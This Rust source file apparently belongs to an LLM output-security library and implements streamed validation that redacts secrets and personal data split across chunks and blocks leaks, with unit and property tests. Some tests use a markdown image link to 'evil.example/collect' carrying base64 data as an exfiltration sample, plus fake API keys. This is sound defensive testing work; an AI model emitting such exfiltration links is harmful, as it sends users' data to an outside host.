//! [`OutputStream`]: output validation of a completion that arrives in
//! chunks (a streamed model response), releasing text as soon as it is safe.
//!
//! Each [`push`](OutputStream::push) appends a chunk; once enough new text
//! has arrived (`min_scan_bytes`) the stream runs the output validators on
//! one window: a short tail of text already released (left context, so that
//! word boundaries and key names before a value are seen) plus everything
//! not yet released. It then releases all but the last `hold_back_bytes`
//! (never cutting inside a finding, preferring a cut after whitespace), with
//! secrets and personal data replaced by their placeholders when the policy
//! sanitizes. [`finish`](OutputStream::finish) scans and releases the rest.
//!
//! Why a hold-back window is enough: a value the validators report can only
//! be missed at a cut if a prefix of it is released before it is
//! recognisable. Every secret and PII pattern is recognised within its first
//! few hundred bytes (the longest unrecognisable prefix among the built-in
//! patterns is an OpenAI key's `sk-…` part before `T3BlbkFJ`, about 210
//! bytes); once recognised, its finding holds the cut until the finding
//! stops growing. The default of 512 bytes covers them with room to spare.
//!
//! Cost: each scan covers at most the left context, the hold-back window and
//! the text new since the last scan, and a scan runs only once
//! `min_scan_bytes` new bytes have arrived, so every byte is scanned a
//! bounded number of times, about `1 + (64 + hold_back_bytes) /
//! min_scan_bytes` (under six with the defaults): the cost is linear in the
//! length of the completion, and memory per stream is bounded by
//! `max_held_bytes` plus one chunk. [`StreamStats`] counts both.
//!
//! Where the released text may differ from validating the whole completion
//! at once ([`validate_output_with`](crate::SecurityEngine::validate_output_with)
//! then its `sanitized` text):
//! * Sanitizing starts with the first finding that makes the verdict
//!   `sanitize` (or at once with `sanitize.always`). Text released before it
//!   is not rewritten: invisible characters there are kept, and so are
//!   secret or PII findings *below their rule's thresholds* that come before
//!   it. (A secret or PII finding at or above its thresholds is itself such
//!   a finding, and is seen before any of it is released, so it is always
//!   redacted.)
//! * Whole-text properties are judged per window: the expected format and
//!   JSON Schema are not checked at all (a partial document never parses),
//!   and system-prompt overlap is measured within each window, not over the
//!   whole completion. Canary tokens are found as in whole text.
//! * A placeholder number is skipped when its placeholder already occurs in
//!   the window (whole text: anywhere in the text).
//! * A finding held longer than `max_held_bytes` (an unterminated private
//!   key block, say) is released in part, its part redacted, so that memory
//!   stays bounded; its remainder is released as later windows judge it.
//! * Once blocked, nothing more is released, including the held-back text.

use std::collections::HashSet;

use serde::{Deserialize, Serialize};

use crate::engine::SecurityEngine;
use crate::error::Error;
use crate::sanitize::{Numbering, PLACEHOLDER_PREFIX, merged_cuts, placeholder_name, push_visible};
use crate::scanner::OutputContext;
use crate::types::{Span, Threat, ThreatType, Verdict};

/// Already-released bytes kept before the unreleased text as left context.
const LEFT_CONTEXT_BYTES: usize = 64;
/// How far back from the hold-back cut a whitespace boundary is looked for.
const WORD_SLACK_BYTES: usize = 32;

/// How an [`OutputStream`] buffers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct StreamOptions {
    /// Bytes held back at the end of the text until more arrives, so that a
    /// secret split across chunks is recognised before any of it is
    /// released (default 512).
    pub hold_back_bytes: usize,
    /// New bytes needed before a scan runs (default 128): larger means fewer
    /// scans and larger releases.
    pub min_scan_bytes: usize,
    /// Most unreleased bytes a stream holds while a finding keeps growing
    /// (default 64 KiB); past it, text is released with the finding's part
    /// redacted.
    pub max_held_bytes: usize,
    /// Never block: a `block` verdict sanitizes instead, and the stream goes
    /// on (findings are still reported). For callers whose policy forwards
    /// sanitized text whatever the verdict; not read from config files.
    #[serde(skip)]
    pub never_block: bool,
}

impl Default for StreamOptions {
    fn default() -> Self {
        StreamOptions { hold_back_bytes: 512, min_scan_bytes: 128, max_held_bytes: 64 * 1024, never_block: false }
    }
}

impl StreamOptions {
    /// Checks the values: `min_scan_bytes` at least 1 and `max_held_bytes`
    /// larger than `hold_back_bytes`.
    pub fn validate(&self) -> Result<(), Error> {
        if self.min_scan_bytes == 0 {
            return Err(Error::Config("stream min_scan_bytes must be at least 1".into()));
        }
        if self.max_held_bytes <= self.hold_back_bytes {
            return Err(Error::Config("stream max_held_bytes must be larger than hold_back_bytes".into()));
        }
        Ok(())
    }
}

/// What one [`push`](OutputStream::push) or [`finish`](OutputStream::finish) gives back.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct StreamStep {
    /// Text now safe to release, sanitized where the policy sanitizes; may be empty.
    pub text: String,
    /// Threats first reported in this step, with spans into the whole
    /// completion as received.
    pub threats: Vec<Threat>,
    /// True once the verdict is `block`: nothing more will be released.
    pub blocked: bool,
}

/// Counters of one stream's work.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct StreamStats {
    /// Chunks pushed.
    pub chunks: u64,
    /// Scans run.
    pub scans: u64,
    /// Bytes received.
    pub bytes_in: u64,
    /// Bytes handed to the validators, over all scans.
    pub bytes_scanned: u64,
    /// Bytes released (after sanitizing).
    pub bytes_out: u64,
}

/// Incremental output validation of one streamed completion; see the
/// [module docs](self).
///
/// ```
/// use llm_security::{OutputContext, SecurityEngine};
///
/// let engine = SecurityEngine::new();
/// let mut s = engine.output_stream(OutputContext::default());
/// let mut out = String::new();
/// for chunk in ["Your key is sk-proj-Zq8vN2mX", "k4Lp7Rt1Wy5Hc9B", "d3Fg6Js0Qe, keep it safe."] {
///     out.push_str(&s.push(chunk)?.text);
/// }
/// out.push_str(&s.finish()?.text);
/// assert_eq!(out, "Your key is [REDACTED_OPENAI_API_KEY_1], keep it safe.");
/// # Ok::<(), llm_security::Error>(())
/// ```
#[derive(Debug)]
pub struct OutputStream {
    engine: SecurityEngine,
    cx: OutputContext,
    opts: StreamOptions,
    /// Left context (already released) then the unreleased text.
    buf: String,
    /// Bytes of `buf` already released.
    released: usize,
    /// Offset of `buf[0]` in the whole completion.
    offset: usize,
    /// Bytes appended since the last scan.
    unscanned: usize,
    /// Threats reported so far, by (start, end, scanner, category, rule).
    reported: HashSet<(usize, usize, String, String, Option<String>)>,
    verdict: Verdict,
    sanitizing: bool,
    blocked: bool,
    finished: bool,
    numbering: Numbering,
    stats: StreamStats,
}

impl SecurityEngine {
    /// A stream validating a completion chunk by chunk, with the default
    /// [`StreamOptions`]. `cx` gives the system prompt (for canaries and
    /// overlap) and the prompt; its expected format and schema are not
    /// used (see the [`stream`](crate::stream) module docs).
    pub fn output_stream(&self, cx: OutputContext) -> OutputStream {
        self.output_stream_with(cx, StreamOptions::default())
    }

    /// [`output_stream`](Self::output_stream) with explicit options
    /// (values out of range are raised to the nearest valid one).
    pub fn output_stream_with(&self, mut cx: OutputContext, mut opts: StreamOptions) -> OutputStream {
        cx.expected_format = None;
        cx.json_schema = None;
        opts.min_scan_bytes = opts.min_scan_bytes.max(1);
        opts.max_held_bytes = opts.max_held_bytes.max(opts.hold_back_bytes + 1);
        let sanitizing = self.config().sanitize.always;
        OutputStream {
            engine: self.clone(),
            cx,
            opts,
            buf: String::new(),
            released: 0,
            offset: 0,
            unscanned: 0,
            reported: HashSet::new(),
            verdict: Verdict::Allow,
            sanitizing,
            blocked: false,
            finished: false,
            numbering: Numbering::default(),
            stats: StreamStats::default(),
        }
    }
}

fn is_data(t: &Threat) -> bool {
    matches!(t.kind, ThreatType::SecretLeak | ThreatType::SensitiveData)
}

impl OutputStream {
    /// Appends a chunk; returns the text now safe to release, the threats
    /// first seen, and whether the stream is blocked. After a block (or
    /// after [`finish`](Self::finish)) chunks are ignored.
    pub fn push(&mut self, chunk: &str) -> Result<StreamStep, Error> {
        if self.blocked || self.finished {
            return Ok(StreamStep { blocked: self.blocked, ..StreamStep::default() });
        }
        self.stats.chunks += 1;
        self.stats.bytes_in += chunk.len() as u64;
        self.buf.push_str(chunk);
        self.unscanned += chunk.len();
        if self.unscanned < self.opts.min_scan_bytes {
            return Ok(StreamStep::default());
        }
        self.step(false)
    }

    /// Scans and releases whatever is left. Call once, when the completion ends.
    pub fn finish(&mut self) -> Result<StreamStep, Error> {
        if self.blocked || self.finished {
            return Ok(StreamStep { blocked: self.blocked, ..StreamStep::default() });
        }
        self.finished = true;
        if self.released == self.buf.len() {
            return Ok(StreamStep::default());
        }
        self.step(true)
    }

    /// The verdict over every threat seen so far.
    pub fn verdict(&self) -> Verdict {
        self.verdict
    }

    /// True once the verdict is `block`.
    pub fn is_blocked(&self) -> bool {
        self.blocked
    }

    /// What the stream has done so far.
    pub fn stats(&self) -> StreamStats {
        self.stats
    }

    /// One scan of the window, then a release.
    fn step(&mut self, last: bool) -> Result<StreamStep, Error> {
        let analysis = self.engine.validate_output_with(&self.buf, &self.cx)?;
        self.stats.scans += 1;
        self.stats.bytes_scanned += self.buf.len() as u64;
        self.unscanned = 0;
        let len = self.buf.len();
        let released = self.released;
        // Findings wholly in the left context were judged when that text
        // was the window's unreleased part (or are artefacts of where the
        // context was cut): only those reaching the unreleased text count.
        let live: Vec<&Threat> = analysis.threats().iter().filter(|t| t.span.end > released).collect();
        for t in &live {
            self.verdict = self.verdict.max(self.engine.output_threat_verdict(t));
        }
        let mut step = StreamStep::default();
        if self.verdict == Verdict::Block && !self.opts.never_block {
            self.blocked = true;
            step.blocked = true;
            step.threats = self.report(&live, len, true);
            // What was held back is never released.
            self.buf.clear();
            self.released = 0;
            return Ok(step);
        }
        if self.verdict >= Verdict::Sanitize {
            self.sanitizing = true;
        }
        let cut = if last { len } else { self.cut(&live) };
        step.text = self.release(&live, cut);
        step.threats = self.report(&live, len, last);
        self.stats.bytes_out += step.text.len() as u64;
        self.trim();
        Ok(step)
    }

    /// Where this scan's release ends: `hold_back_bytes` before the end,
    /// moved back after a whitespace when one is near, and before any
    /// finding that would straddle it; past `max_held_bytes` of unreleased
    /// text, the hold-back cut regardless of findings.
    fn cut(&self, live: &[&Threat]) -> usize {
        let buf = &self.buf;
        let floor = self.released;
        let mut cut = buf.len().saturating_sub(self.opts.hold_back_bytes).max(floor);
        while !buf.is_char_boundary(cut) {
            cut -= 1;
        }
        let hard = cut;
        let slack_from = cut.saturating_sub(WORD_SLACK_BYTES).max(floor);
        if let Some(ws) = buf[slack_from..cut].rfind(|c: char| c.is_whitespace()) {
            let at = slack_from + ws;
            let ch = buf[at..].chars().next().map_or(1, char::len_utf8);
            cut = at + ch;
        }
        // A finding that starts in the unreleased text and reaches past the
        // cut holds the cut at its start; moving the cut can put it inside
        // another finding, so repeat until none straddles.
        loop {
            let held = live.iter().filter(|t| t.span.start >= floor && t.span.start < cut && t.span.end > cut);
            match held.map(|t| t.span.start).min() {
                Some(start) => cut = start,
                None => break,
            }
        }
        if buf.len() - cut > self.opts.max_held_bytes { hard.max(floor) } else { cut.max(floor) }
    }

    /// Releases `buf[released..cut]`, redacting data findings when sanitizing.
    fn release(&mut self, live: &[&Threat], cut: usize) -> String {
        let from = self.released;
        if cut <= from {
            return String::new();
        }
        let mut out = String::with_capacity(cut - from);
        if !self.sanitizing {
            out.push_str(&self.buf[from..cut]);
            self.released = cut;
            return out;
        }
        let strip = self.engine.config().sanitize.strip_invisible;
        let data: Vec<Threat> = live.iter().filter(|t| is_data(t)).map(|t| (*t).clone()).collect();
        let guard = self.buf.contains(PLACEHOLDER_PREFIX);
        let buf = &self.buf;
        let mut at = from;
        for c in merged_cuts(buf, &data) {
            let (s, e) = (c.start.max(from), c.end.min(cut));
            if s >= e {
                continue;
            }
            push_visible(&mut out, buf, at, s, strip);
            let name = placeholder_name(&c.category);
            let placeholder = self.numbering.placeholder(&name, &buf[c.start..c.end], |p| guard && buf.contains(p));
            out.push_str(&placeholder);
            at = e;
        }
        push_visible(&mut out, buf, at, cut, strip);
        self.released = cut;
        out
    }

    /// The threats not reported before, with spans into the whole
    /// completion. A finding that reaches the end of the window may still
    /// grow: it is reported once it stops (or at the end, or on a block).
    fn report(&mut self, live: &[&Threat], len: usize, all: bool) -> Vec<Threat> {
        let mut out = Vec::new();
        for t in live {
            if !all && t.span.end >= len {
                continue;
            }
            let mut t = (*t).clone();
            t.span = Span::new(t.span.start + self.offset, t.span.end + self.offset);
            let key = (t.span.start, t.span.end, t.scanner.clone(), t.category.clone(), t.rule.clone());
            if self.reported.insert(key) {
                out.push(t);
            }
        }
        out
    }

    /// Drops released text beyond the left context.
    fn trim(&mut self) {
        let mut drop = self.released.saturating_sub(LEFT_CONTEXT_BYTES);
        while !self.buf.is_char_boundary(drop) {
            drop -= 1;
        }
        if drop > 0 {
            self.buf.drain(..drop);
            self.offset += drop;
            self.released -= drop;
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const KEY: &str = "sk-proj-Zq8vN2mXk4Lp7Rt1Wy5Hc9Bd3Fg6Js0Qe";

    fn run(engine: &SecurityEngine, chunks: &[&str], opts: StreamOptions) -> (String, Vec<Threat>, bool, StreamStats) {
        let mut s = engine.output_stream_with(OutputContext::default(), opts);
        let mut text = String::new();
        let mut threats = Vec::new();
        let mut blocked = false;
        for c in chunks {
            let step = s.push(c).unwrap();
            text.push_str(&step.text);
            threats.extend(step.threats);
            blocked |= step.blocked;
        }
        let step = s.finish().unwrap();
        text.push_str(&step.text);
        threats.extend(step.threats);
        (text, threats, blocked || step.blocked, s.stats())
    }

    /// Splits `text` at the given byte fractions (snapped to char boundaries).
    fn split_at<'t>(text: &'t str, cuts: &[usize]) -> Vec<&'t str> {
        let mut points: Vec<usize> = cuts
            .iter()
            .map(|&c| {
                let mut p = c.min(text.len());
                while !text.is_char_boundary(p) {
                    p -= 1;
                }
                p
            })
            .collect();
        points.push(0);
        points.push(text.len());
        points.sort_unstable();
        points.dedup();
        points.windows(2).map(|w| &text[w[0]..w[1]]).collect()
    }

    #[test]
    fn secret_split_across_three_chunks_is_redacted_and_never_released_in_clear() {
        let engine = SecurityEngine::new();
        let text = format!("Here is the key you asked for: {KEY} and that is all.");
        let at = text.find(KEY).unwrap();
        let chunks = [&text[..at + 10], &text[at + 10..at + 25], &text[at + 25..]];
        // Small windows too, so that releases happen between the chunks.
        for opts in [
            StreamOptions::default(),
            StreamOptions { hold_back_bytes: 48, min_scan_bytes: 1, max_held_bytes: 4096, ..StreamOptions::default() },
        ] {
            let mut s = engine.output_stream_with(OutputContext::default(), opts);
            let mut released = Vec::new();
            for c in chunks {
                released.push(s.push(c).unwrap().text);
            }
            released.push(s.finish().unwrap().text);
            let joined = released.concat();
            assert_eq!(joined, "Here is the key you asked for: [REDACTED_OPENAI_API_KEY_1] and that is all.");
            for piece in [&KEY[..10], &KEY[10..25], &KEY[25..]] {
                assert!(!released.iter().any(|r| r.contains(piece)), "{piece} released: {released:?}");
            }
        }
    }

    #[test]
    fn short_completion_is_released_at_finish_and_clean_text_unchanged() {
        let engine = SecurityEngine::new();
        let (text, threats, blocked, stats) =
            run(&engine, &["The capital ", "of France is Paris."], StreamOptions::default());
        assert_eq!(text, "The capital of France is Paris.");
        assert!(threats.is_empty() && !blocked);
        assert_eq!(stats.scans, 1);
    }

    #[test]
    fn text_is_released_before_the_end_once_past_the_hold_back() {
        let engine = SecurityEngine::new();
        let opts =
            StreamOptions { hold_back_bytes: 64, min_scan_bytes: 16, max_held_bytes: 4096, ..StreamOptions::default() };
        let mut s = engine.output_stream_with(OutputContext::default(), opts);
        let word = "lorem ipsum dolor sit amet ";
        let mut early = String::new();
        for _ in 0..20 {
            early.push_str(&s.push(word).unwrap().text);
        }
        assert!(early.len() >= 20 * word.len() - 64 - WORD_SLACK_BYTES, "released {}", early.len());
        early.push_str(&s.finish().unwrap().text);
        assert_eq!(early, word.repeat(20));
    }

    #[test]
    fn exfiltration_link_blocks_and_holds_back_the_rest() {
        let engine = SecurityEngine::new();
        let text = "Done. ![x](https://evil.example/collect?data=c2VjcmV0IHN0dWZm&u=1) More text follows here.";
        let (out, threats, blocked, _) =
            run(&engine, &[&text[..20], &text[20..50], &text[50..]], StreamOptions::default());
        let whole = engine.validate_output_sync(text).unwrap();
        assert_eq!(whole.verdict(), Verdict::Block, "{:?}", whole.threats());
        assert!(blocked && out.is_empty(), "{out}");
        assert!(threats.iter().any(|t| t.kind == ThreatType::DataExfiltration), "{threats:?}");
        // After a block, pushes are ignored and say so.
        let mut s = engine.output_stream(OutputContext::default());
        assert!(s.push(text).unwrap().blocked || s.finish().unwrap().blocked);
        assert!(s.push("more").unwrap().blocked);
    }

    #[test]
    fn never_block_sanitizes_and_goes_on() {
        let engine = SecurityEngine::new();
        let text = format!("Done. ![x](https://evil.example/collect?data=c2VjcmV0IHN0dWZm&u=1) key {KEY} end.");
        let opts = StreamOptions { never_block: true, ..StreamOptions::default() };
        let (out, threats, blocked, _) = run(&engine, &[&text[..30], &text[30..]], opts);
        assert!(!blocked, "{out}");
        assert!(out.ends_with("key [REDACTED_OPENAI_API_KEY_1] end."), "{out}");
        assert!(threats.iter().any(|t| t.kind == ThreatType::DataExfiltration), "{threats:?}");
    }

    #[test]
    fn canary_in_a_stream_blocks() {
        let engine = SecurityEngine::new();
        let token = engine.issue_canary();
        let text = format!("Sure, my instructions start with {token} and go on.");
        let mid = text.find(&token).unwrap() + 7;
        let (out, threats, blocked, _) = run(&engine, &[&text[..mid], &text[mid..]], StreamOptions::default());
        assert!(blocked && !out.contains(&token[..7]), "{out}");
        assert!(threats.iter().any(|t| t.kind == ThreatType::SystemPromptLeak));
    }

    #[test]
    fn threat_spans_point_into_the_whole_completion() {
        let engine = SecurityEngine::new();
        let filler = "nothing to see here, ".repeat(40);
        let text = format!("{filler}mail jane.doe@example.com please");
        let opts =
            StreamOptions { hold_back_bytes: 64, min_scan_bytes: 16, max_held_bytes: 4096, ..StreamOptions::default() };
        let chunks: Vec<&str> = split_at(&text, &(1..text.len() / 7).map(|i| i * 7).collect::<Vec<_>>());
        let (out, threats, _, _) = run(&engine, &chunks, opts);
        assert!(out.ends_with("mail [REDACTED_EMAIL_1] please"), "{out}");
        let t = threats.iter().find(|t| t.kind == ThreatType::SensitiveData).unwrap();
        assert_eq!(t.span.slice(&text), "jane.doe@example.com");
        assert_eq!(threats.iter().filter(|t| t.kind == ThreatType::SensitiveData).count(), 1, "{threats:?}");
    }

    #[test]
    fn each_byte_is_scanned_a_bounded_number_of_times() {
        let engine = SecurityEngine::new();
        let text = "a plain sentence with no findings in it at all. ".repeat(200);
        let opts = StreamOptions::default();
        for size in [1usize, 4, 17, 300] {
            let chunks = split_at(&text, &(1..=text.len() / size).map(|i| i * size).collect::<Vec<_>>());
            let (out, _, _, stats) = run(&engine, &chunks, opts);
            assert_eq!(out, text);
            let n = text.len() as u64;
            let per_scan = (LEFT_CONTEXT_BYTES + WORD_SLACK_BYTES + opts.hold_back_bytes) as u64;
            assert!(stats.scans <= n / opts.min_scan_bytes as u64 + 2, "{size}: {stats:?}");
            assert!(stats.bytes_scanned <= n + stats.scans * per_scan, "{size}: {stats:?}");
            assert!(stats.bytes_scanned <= 6 * n + per_scan, "{size}: {stats:?}");
            assert!(stats.scans <= stats.chunks + 1);
        }
    }

    #[test]
    fn data_below_its_thresholds_before_the_first_sanitize_finding_is_kept_as_documented() {
        // E-mail addresses allowed by the policy (High severity needed);
        // secrets sanitized. Whole text: the key makes the verdict
        // `sanitize`, so the earlier address is redacted too. Streamed with
        // a small window, the address is released before the key is seen.
        let mut config = crate::SecurityConfig::default();
        config.policy = config.policy.clone().with_rule(
            ThreatType::SensitiveData,
            crate::PolicyRule::new(Verdict::Sanitize, crate::Severity::High, 0.0),
        );
        let engine = SecurityEngine::with_config(config);
        let text = format!("write to jane.doe@example.com {} the key is {KEY} ok", "filler words go here ".repeat(10));
        let whole = engine.validate_output_sync(&text).unwrap();
        assert_eq!(whole.verdict(), Verdict::Sanitize);
        let expected = whole.sanitized().unwrap();
        assert!(expected.starts_with("write to [REDACTED_EMAIL_1] "), "{expected}");
        let opts =
            StreamOptions { hold_back_bytes: 48, min_scan_bytes: 8, max_held_bytes: 4096, ..StreamOptions::default() };
        let chunks = split_at(&text, &(1..text.len() / 8).map(|i| i * 8).collect::<Vec<_>>());
        let (out, _, _, _) = run(&engine, &chunks, opts);
        assert_eq!(out, expected.replace("[REDACTED_EMAIL_1]", "jane.doe@example.com"));
        // Released whole, it is the same as whole-text validation.
        let (out, _, _, _) = run(&engine, &[&text], opts);
        assert_eq!(out, expected);
    }

    #[test]
    fn options_validate() {
        assert!(StreamOptions::default().validate().is_ok());
        assert!(StreamOptions { min_scan_bytes: 0, ..StreamOptions::default() }.validate().is_err());
        assert!(
            StreamOptions { max_held_bytes: 10, hold_back_bytes: 10, ..StreamOptions::default() }.validate().is_err()
        );
    }

    /// Pieces a generated completion is made of: prose, secrets, PII.
    fn piece() -> impl Strategy<Value = String> {
        prop_oneof![
            4 => "[a-z]{1,8}( [a-z]{1,8}){0,6}[.,]?".prop_map(|s| s),
            1 => Just(KEY.to_owned()),
            1 => Just("ghp_R4nD0mT0k3nV4lu3Xy12345678901234567".to_owned()),
            1 => "[a-z]{3,8}\\.[a-z]{3,8}@(example|mail)\\.com",
            1 => Just("AKIAIOSFODNN7EXAMPLQ".to_owned()),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        /// For any split, the released text is what validating the whole
        /// completion and sanitizing it gives.
        #[test]
        fn any_split_releases_what_whole_text_validation_gives(
            pieces in proptest::collection::vec(piece(), 1..12),
            cuts in proptest::collection::vec(0usize..600, 0..12),
            hold_back in 48usize..600,
            min_scan in 1usize..200,
        ) {
            let engine = SecurityEngine::new();
            let text = pieces.join(" ");
            let whole = engine.validate_output_sync(&text).unwrap();
            prop_assume!(whole.verdict() != Verdict::Block);
            let expected = whole.sanitized().unwrap_or(&text).to_owned();
            let chunks = split_at(&text, &cuts);
            let opts = StreamOptions { hold_back_bytes: hold_back, min_scan_bytes: min_scan, max_held_bytes: 1 << 16, ..StreamOptions::default() };
            let (out, _, blocked, _) = run(&engine, &chunks, opts);
            prop_assert!(!blocked);
            prop_assert_eq!(out, expected);
        }

        /// A secret split across three chunks anywhere is never released in clear.
        #[test]
        fn a_secret_in_three_chunks_never_leaks(
            before in "[a-z ]{0,300}",
            after in "[a-z ]{0,300}",
            a in 1usize..40,
            b in 1usize..40,
        ) {
            let engine = SecurityEngine::new();
            let text = format!("{before} {KEY} {after}");
            let start = before.len() + 1;
            let (x, y) = (start + a.min(b), start + a.max(b).min(KEY.len() - 1));
            let opts = StreamOptions { hold_back_bytes: 64, min_scan_bytes: 1, max_held_bytes: 4096, ..StreamOptions::default() };
            let (out, _, blocked, _) = run(&engine, &[&text[..x], &text[x..y], &text[y..]], opts);
            prop_assert!(!out.contains(&KEY[8..20]) && !out.contains(&KEY[20..]), "{}", out);
            // The random words around it may themselves block the stream
            // (a slur among them); otherwise the key is replaced.
            prop_assert!(blocked || out.contains("[REDACTED_"), "{}", out);
        }
    }
}
